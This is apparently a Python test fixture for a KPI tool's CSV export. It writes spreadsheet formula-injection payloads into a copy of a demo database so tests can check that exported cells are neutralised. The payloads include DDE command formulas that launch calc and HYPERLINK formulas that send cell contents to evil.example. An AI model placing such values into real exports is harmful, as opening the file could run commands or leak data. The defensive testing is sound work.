"""Hostile text for the tests of CSV neutralisation: formulas a spreadsheet would run.

The upload path refuses such values, so `poison` writes them with SQL into a copy of the
demo database, as a database from before that check, or one edited by hand, would hold them.
"""

from __future__ import annotations

import datetime as dt
import shutil
from pathlib import Path

import kpis
from kpis.spreadsheet import TRIGGERS
from tests.conftest import CONFIG

# Payloads from the security review and OWASP's CSV-injection page, one per trigger.
FORMULAS = {
    "dde_minus": "-2+3+cmd|' /C calc'!A0",
    "dde_plus": "+2+3+cmd|' /C calc'!A0",
    "dde_equals": "=cmd|' /C calc'!A0",
    "dde_pipe": "|cmd|' /C calc'!A0",
    "hyperlink": '-1+HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "equals": "=1+1",
    "at_sum": "@SUM(A1)",
    "tab": "\t=1+1",
    "carriage_return": "\r=1+1",
    "line_feed": "\n=1+1",
    "with_comma": '=HYPERLINK("http://evil.example","a,b")',
}
# A line break inside a cell: unquoted, a reader starts a new row with the formula after it.
SPLITTERS = {
    "cr_inside": "web\r=cmd|' /C calc'!A0",
    "lf_inside": "web\n=1+1",
    "crlf_inside": "web\r\n@SUM(A1)",
}
CHANNELS = {**FORMULAS, **SPLITTERS}
SAFE_CHANNEL = "web"  # left as it is: the neutralised cells sit beside ordinary ones
HOSTILE_FILE = '=HYPERLINK("http://evil.example/?f="&A1,"leads.csv")'
HOSTILE_COLUMN = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_EVENT = '-1+HYPERLINK("http://evil.example","details")'


def is_formula_cell(text: str) -> bool:
    """Written independently of kpis.spreadsheet: a cell a spreadsheet could run.

    A trigger first, unless the cell is a plain number (which a spreadsheet reads as one;
    Python's float() also takes "inf" and "1_000", a spreadsheet does not).
    """
    if not text or text[0] not in "".join(TRIGGERS):
        return False
    if set(text) - set("0123456789+-.eE"):
        return True
    try:
        float(text)
    except ValueError:
        return True
    return False


def neutralised(text: str) -> str:
    """What a neutralised cell holds, written independently: CRs made LFs, then a quote."""
    lf = text.replace("\r\n", "\n").replace("\r", "\n")
    return "'" + lf if is_formula_cell(lf) else lf


def poison(demo_db: Path, target: Path) -> Path:
    """A copy of the demo database whose text holds formulas: channels, a file name, an event.

    Each formula replaces the channel of a share of the 'events' leads, so a breakdown by
    channel has one row per formula beside the untouched channels.
    """
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(demo_db, target)
    values = list(CHANNELS.values())
    with kpis.Store(target, kpis.load_definitions(CONFIG)) as store:
        cur = store.cursor()
        cur.execute(
            "UPDATE leads SET channel = (?::VARCHAR[])[(1 + hash(lead_id) % ?)::BIGINT] "
            "WHERE channel = 'events'",
            [values, len(values)],
        )
        cur.execute(
            "UPDATE _kpis_uploads SET file_name = ?, dropped_columns = [?] WHERE batch_id = 1",
            [HOSTILE_FILE, HOSTILE_COLUMN],
        )
        kpis.save_event(
            store,
            kpis.Event(name="pricing", date=dt.date(2026, 6, 1), description=HOSTILE_EVENT),
        )
    return target
